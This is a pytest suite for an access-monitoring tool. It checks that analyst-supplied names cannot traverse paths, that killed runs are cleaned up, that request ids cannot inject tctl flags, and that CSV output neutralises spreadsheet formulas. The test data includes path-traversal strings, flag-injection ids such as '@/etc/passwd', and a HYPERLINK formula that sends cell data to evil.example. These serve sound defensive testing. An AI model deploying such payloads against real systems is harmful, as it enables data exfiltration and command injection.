"""Names used as paths (issue 14, point 10): reports, saved queries, rules, state and locks.

Every name an analyst types becomes part of a file name somewhere; none may leave its folder,
touch another report's files, or pass with a trailing newline.
"""

from __future__ import annotations

import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from accessmon.errors import AccessmonError, ConfigError
from accessmon.reports.definitions import parse_definition
from accessmon.reports.state import (
    mark_interrupted,
    read_states,
    remove_dead_run_folders,
    report_lock,
    write_state,
)
from accessmon.ui import output
from accessmon.window import Window

from ..conftest import EVENT, ROLES_FIXTURE, build_store, run

REAL = "privilege_access_report"
TRAVERSALS = [
    "../../escaped/sub/pwn",
    "../.state/privilege_access_report",
    "ABSOLUTE",  # replaced by a path beside the working directory
    "pwn\n",
    "..",
    "*",
    "privilege_access_report/../../pwn",
]


def _tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


@pytest.fixture
def workdir(tmp_path) -> Path:
    """A working directory with a store, roles, and the real report's state on disk."""
    root = tmp_path / "work"
    root.mkdir()
    build_store(root, [EVENT], name="data/audit")
    (root / "accessmon.yaml").write_text(
        f"rbac: {{resources: [{ROLES_FIXTURE}]}}\naudit_log: ./audit.jsonl\n"
    )
    write_state(root / "reports", f"{REAL}_7_days", "SUCCESS", results="r.json")
    return root


def _real_state(root: Path) -> dict:
    return json.loads((root / "reports" / ".state" / f"{REAL}_7_days.json").read_text())


@pytest.mark.parametrize(
    ("user", "name"),
    [("mallory", TRAVERSALS[0]), ("mallory", TRAVERSALS[1]), *(("alice", n) for n in TRAVERSALS)],
)
def test_report_run_names_never_become_paths(workdir, user, name):
    """mallory has no roles, alice may use reports: neither creates a file for a bad name."""
    if name == "ABSOLUTE":
        name = str(workdir.parent / "abs" / "pwn")
    before, state = _tree(workdir.parent), _real_state(workdir)
    out = run(["--user", user, "report", "run", name], workdir)
    assert out.returncode == 1, out.stderr
    assert "Traceback" not in out.stderr and "internal error" not in out.stderr
    if user == "mallory":
        assert '"mallory" (roles: none) may not use security_report' in out.stderr
    else:
        assert "invalid report name" in out.stderr
    created = _tree(workdir.parent) - before - {"work/audit.jsonl"}
    assert created == set()
    assert _real_state(workdir) == state
    last = [json.loads(x) for x in (workdir / "audit.jsonl").read_text().splitlines()][-1]
    assert last["success"] is False and last["user"] == user


def test_a_denied_run_of_the_real_report_leaves_its_state_alone(workdir):
    state = _real_state(workdir)
    out = run(["--user", "mallory", "report", "run", REAL], workdir)
    assert out.returncode == 1 and "may not use security_report" in out.stderr
    assert _real_state(workdir) == state
    assert not (workdir / "reports" / ".state" / f"{REAL}.lock").exists()


@pytest.mark.parametrize("command", ["state", "get"])
def test_report_state_and_get_do_not_glob_outside_the_output_folder(workdir, command):
    secret = {"name": "secret_1_days", "state": "SUCCESS", "updated_at": "2024-01-01"}
    (workdir / "secret_1_days.json").write_text(json.dumps(secret))
    (workdir / "secret_1d_20240101T000000Z.json").write_text(json.dumps(secret))
    for name in ("../secret", "../../work/secret", "*", "secret\n"):
        out = run(["--user", "alice", "report", command, name], workdir)
        assert out.returncode == 1, out.stdout
        assert "invalid report name" in out.stderr
        assert "secret_1" not in out.stdout


def test_a_foreign_json_in_the_state_folder_is_skipped_not_a_keyerror(workdir):
    folder = workdir / "reports" / ".state"
    (folder / f"{REAL}_30_days.json").write_text('{"hello": "world"}')
    (folder / f"{REAL}_31_days.json").write_text("[1, 2, 3]")
    (folder / f"{REAL}_32_days.json").write_text("not json")
    out = run(["--user", "alice", "report", "state", REAL], workdir)
    assert out.returncode == 0, out.stderr
    assert f"{REAL}_7_days" in out.stdout and "SUCCESS" in out.stdout
    assert out.stderr.count("not a report state file") == 3
    assert "KeyError" not in out.stderr


def test_report_get_of_a_foreign_results_json_is_a_clear_error(workdir):
    (workdir / "reports" / f"{REAL}_7d_20240101T000000Z.json").write_text('{"a": 1}')
    out = run(["--user", "alice", "report", "get", REAL], workdir)
    assert out.returncode == 1
    assert "not a report results file" in out.stderr and f"{REAL}_7d_" in out.stderr
    assert "internal error" not in out.stderr


@pytest.mark.parametrize("name", ["evil\n", "../evil", "evil/x", ".hidden", "Evil"])
def test_saved_query_names_are_checked_whole(tmp_path, name):
    build_store(tmp_path, [EVENT], name="data/audit")
    sql = "SELECT user FROM session_start"
    created = run(["query", "create", "--name", name, sql], tmp_path)
    assert created.returncode == 1 and "invalid query name" in created.stderr
    assert not (tmp_path / "queries").exists() or not any((tmp_path / "queries").iterdir())
    for command in ("get", "rm"):
        out = run(["query", command, name], tmp_path)
        assert out.returncode == 1 and "invalid query name" in out.stderr


def test_rule_and_report_names_with_a_trailing_newline_are_refused(tmp_path):
    from accessmon import alerts

    rule = 'kind: detection_rule\nname: "evil\\n"\nseverity: low\nquery: SELECT 1\ncondition: any_row\n'
    rules, errors = alerts.parse_rules(rule, "r.yaml")
    assert not rules and "name" in errors[0]
    report = (
        'kind: security_report\nname: "evil\\n"\ntitle: t\nqueries:\n'
        "  - {name: q, title: t, query: SELECT user FROM session_start}\n"
    )
    with pytest.raises(ConfigError, match="name"):
        parse_definition(report, "x.yaml")
    with pytest.raises(ConfigError, match="name"):
        parse_definition(report.replace('"evil\\n"', '".."'), "x.yaml")


def test_lock_and_state_names_are_checked_too(tmp_path):
    with pytest.raises(AccessmonError, match="invalid report name"):
        report_lock(tmp_path, "../x", 0)
    with pytest.raises(AccessmonError, match="invalid report state name"):
        write_state(tmp_path, "../../x_7_days", "RUNNING")
    assert list(tmp_path.iterdir()) == []


# -- kill -9 leftovers of a report run (issue 14, point 9) ----------------------------------------


def _dead_pid() -> int:
    done = subprocess.Popen(["true"])
    done.wait()
    return done.pid


def test_a_running_state_of_a_dead_process_reads_as_interrupted(workdir):
    out_dir, host = workdir / "reports", socket.gethostname()
    write_state(out_dir, f"{REAL}_3_days", "RUNNING", host=host, pid=_dead_pid())
    write_state(out_dir, f"{REAL}_4_days", "RUNNING", host=host, pid=os.getpid())
    write_state(out_dir, f"{REAL}_5_days", "RUNNING", host="elsewhere", pid=1)
    out = run(["--user", "alice", "report", "state", REAL], workdir)
    assert out.returncode == 0, out.stderr
    lines = {line.split()[0]: line for line in out.stdout.splitlines()}
    assert re.search(r"\sERROR\s+\S+ \(interrupted\)$", lines[f"{REAL}_3_days"])
    assert " RUNNING " in lines[f"{REAL}_4_days"]  # this process is alive
    assert " RUNNING " in lines[f"{REAL}_5_days"]  # another host: only the lock can tell
    # under the report's lock no run of it is in progress: every RUNNING state is a leftover
    with report_lock(out_dir, REAL, 0):
        mark_interrupted(out_dir, REAL)
    states = {d["name"]: d for d in read_states(out_dir, REAL)}
    for days in (3, 4, 5):
        assert states[f"{REAL}_{days}_days"]["state"] == "ERROR"
        assert states[f"{REAL}_{days}_days"]["error"] == "interrupted"
    assert states[f"{REAL}_7_days"]["state"] == "SUCCESS"


def test_run_folders_of_dead_processes_are_removed(tmp_path):
    host = socket.gethostname()
    dead = tmp_path / f".run-{host}.{_dead_pid()}.abc123"
    alive = tmp_path / f".run-{host}.{os.getpid()}.def456"
    other = tmp_path / f".run-elsewhere.{_dead_pid()}.ghi789"
    legacy = tmp_path / ".run-xyz"
    for folder in (dead, alive, other, legacy):
        folder.mkdir()
        (folder / "report.ipynb").write_text("{}")
    assert remove_dead_run_folders(tmp_path) == [dead]
    assert not dead.exists() and alive.is_dir() and other.is_dir() and legacy.is_dir()


def test_kill_9_during_a_run_then_state_and_the_next_run_clean_up(workdir):
    """A real run killed with -9 while its notebook executes: `report state` says ERROR
    (interrupted) at once, and the next run removes the scratch folder it left."""
    out_dir = workdir / "reports"
    victim = subprocess.Popen(
        [sys.executable, "-m", "accessmon", "--user", "alice", "report", "run", REAL],
        cwd=workdir, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        start_new_session=True,
    )  # fmt: skip
    try:
        for _ in range(3000):  # the scratch folder appears once the queries have run
            if list(out_dir.glob(".run-*")) or victim.poll() is not None:
                break
            time.sleep(0.1)
        left = list(out_dir.glob(".run-*"))
        assert left and victim.poll() is None, "the run ended before it could be killed"
    finally:
        os.killpg(victim.pid, signal.SIGKILL)
        victim.wait()
    assert left[0].name.startswith(f".run-{socket.gethostname()}.{victim.pid}.")
    assert left[0].is_dir()
    state = run(["--user", "alice", "report", "state", REAL], workdir)
    assert re.search(rf"{REAL}_7_days\s+ERROR\s+\S+ \(interrupted\)", state.stdout), state.stdout
    again = run(["--user", "alice", "report", "run", REAL], workdir)
    assert again.returncode == 0, again.stderr
    assert list(out_dir.glob(".run-*")) == []
    assert re.search(
        rf"{REAL}_7_days\s+SUCCESS",
        run(["--user", "alice", "report", "state", REAL], workdir).stdout,
    )


# -- tctl argument injection (issue 14, point 13) and lock names (point 14) ------------------------

GOOD_ID = "0b6f1c9e-2d4a-4e8b-9c1d-5f3e7a9b2c40"
REVIEW_RULE = """
kind: access_monitoring_rule
version: v1
metadata: {name: deny-dba}
spec:
  subjects: [access_request]
  condition: 'contains_any(access_request.spec.roles, set("dba"))'
  desired_state: reviewed
  automatic_review: {integration: builtin, decision: DENIED}
"""
LOCK_RULE = """
kind: detection_rule
name: root-lock
severity: high
query: SELECT user, count(*) AS count FROM session_start WHERE login = 'root' GROUP BY user
condition: {any_row: {key: user}}
actions:
  - teleport_lock: {target: user, ttl: 1h}
"""
DAY = Window.between("2024-03-20", "2024-03-20")


def _request(uid: str, request_id: str) -> dict:
    return {"event": "access_request.create", "code": "T5000I", "uid": uid, "id": request_id,
            "time": "2024-03-20T10:00:00.000Z", "user": "mallory", "roles": ["dba"],
            "reason": "x", "state": "PENDING"}  # fmt: skip


def _alert_session(tmp_path: Path, events: list[dict], rule: str, **alerts_cfg):
    from ..conftest import session_for

    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "r.yaml").write_text(rule)
    cfg = {"alert_log": tmp_path / "alerts.jsonl", "state_file": tmp_path / "state.json",
           **alerts_cfg}  # fmt: skip
    store = build_store(tmp_path, events)
    return session_for(store, rules_dir=tmp_path / "rules", alerts=cfg)


def _recording_tctl(tmp_path: Path, monkeypatch) -> Path:
    """A real executable named tctl, first on PATH, that records its arguments."""
    bindir, record = tmp_path / "bin", tmp_path / "tctl-calls.jsonl"
    bindir.mkdir()
    (bindir / "tctl").write_text(
        f"#!{sys.executable}\nimport json, sys\n"
        f"open({str(record)!r}, 'a').write(json.dumps(sys.argv[1:]) + '\\n')\n"
    )
    (bindir / "tctl").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bindir}:{os.environ['PATH']}")
    return record


def test_a_request_id_never_becomes_a_tctl_flag(tmp_path, monkeypatch):
    from accessmon import alerts

    record = _recording_tctl(tmp_path, monkeypatch)
    events = [_request("a", "--approve"), _request("b", "@/etc/passwd"), _request("c", GOOD_ID)]
    session = _alert_session(tmp_path, events, REVIEW_RULE, apply=True)
    rule = alerts.load_rules(session.config).rules["deny-dba"]
    run_ = alerts.run_rule(session, rule, DAY)
    calls = [json.loads(x) for x in record.read_text().splitlines()]
    assert calls == [["request", "review", "--deny", "--author=" + session.user,
                      "--reason=accessmon: access monitoring rule deny-dba (denied)",
                      "--", GOOD_ID]]  # fmt: skip
    refused = sorted(a.key for a in run_.actions if not a.ok)
    assert refused == ["--approve", "@/etc/passwd"]
    assert all("refusing request id" in a.detail for a in run_.actions if not a.ok)
    # a refused id is refused for good: it does not come back on every run
    again = alerts.run_rule(session, rule, DAY)
    assert again.alerts == [] and again.suppressed == 3


def test_lookalike_users_get_locks_of_their_own(tmp_path):
    from accessmon import alerts

    users = ["alice.smith", "alice-smith", "Alice_Smith"]
    events = [{"event": "session.start", "uid": f"u{i}", "time": "2024-03-20T12:00:00.000Z",
               "user": u, "login": "root", "sid": f"s{i}"} for i, u in enumerate(users)]  # fmt: skip
    session = _alert_session(tmp_path, events, LOCK_RULE)
    rule = alerts.load_rules(session.config).rules["root-lock"]
    run_ = alerts.run_rule(session, rule, DAY)
    paths = [Path(a.path) for a in run_.actions if a.action == "teleport_lock"]
    assert len(paths) == 3 and len({p.name for p in paths}) == 3
    targets = sorted(yaml.safe_load(p.read_text())["spec"]["target"]["user"] for p in paths)
    assert targets == sorted(users)


# -- CSV injection (issue 14, point 18) ------------------------------------------------------------


def test_csv_output_guards_spreadsheet_formulas_from_the_audit_log(tmp_path):
    import csv
    import io

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
               "\tx", "plain"]  # fmt: skip
    events = [{**EVENT, "uid": f"u{i}", "user": u} for i, u in enumerate(hostile)]
    store = build_store(tmp_path, events)
    sql = "SELECT user, -1 AS n FROM session_start ORDER BY uid"
    window = ["--from", "2024-03-20", "--to", "2024-03-20"]
    args = ["query", "exec", "--store", str(store), *window, "--format", "csv", sql]
    guarded = run(args, tmp_path)
    assert guarded.returncode == 0, guarded.stderr
    rows = list(csv.reader(io.StringIO(guarded.stdout)))
    assert rows[0] == ["user", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + u for u in hostile[:-1]] + ["plain"]
    assert {r[1] for r in rows[1:]} == {"-1"}  # a number is not a formula
    raw = run([*args[:-1], "--no-csv-guard", sql], tmp_path)
    assert [r[0] for r in list(csv.reader(io.StringIO(raw.stdout)))[1:]] == hostile
    # a carriage return too (the subprocess's text mode would turn it into a newline)
    assert output.guard_cell("\rx") == "'\rx" and output.guard_cell(-5) == -5
